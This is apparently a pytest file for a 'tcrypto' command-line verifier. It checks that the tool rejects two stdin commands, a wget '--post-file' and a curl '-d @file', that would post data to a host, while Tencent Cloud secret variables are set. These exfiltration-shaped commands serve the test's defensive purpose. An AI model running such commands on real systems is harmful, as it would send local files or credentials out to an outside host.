"""The readers as the command line and the package give them."""

from __future__ import annotations

import io
import sys

import pytest
from pasted import SECRET_ID, SECRET_KEY

from tcrypto import check
from tcrypto.cli import main


@pytest.mark.parametrize(
    ("command", "sentence"),
    [
        (b"wget https://h/ --post-file=-", "the command reads its standard input, which isn't here"),
        (b"curl https://h/ -d @$'a\\0b'", "the command names a file that can't be"),
    ],
)
def test_a_file_that_is_none(
    command: bytes, sentence: str, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("TENCENTCLOUD_SECRET_ID", SECRET_ID)
    monkeypatch.setenv("TENCENTCLOUD_SECRET_KEY", SECRET_KEY)
    monkeypatch.setattr(sys, "stdin", io.TextIOWrapper(io.BytesIO(command)))
    assert main(["verify", "--read-files"]) == 2
    out, err = capsys.readouterr()
    assert (out, err.count("\n")) == ("", 1)
    assert sentence in err


def test_the_package_has_no_other_name() -> None:
    with pytest.raises(AttributeError, match=r"module 'tcrypto\.check' has no attribute 'nothing'"):
        check.nothing  # noqa: B018
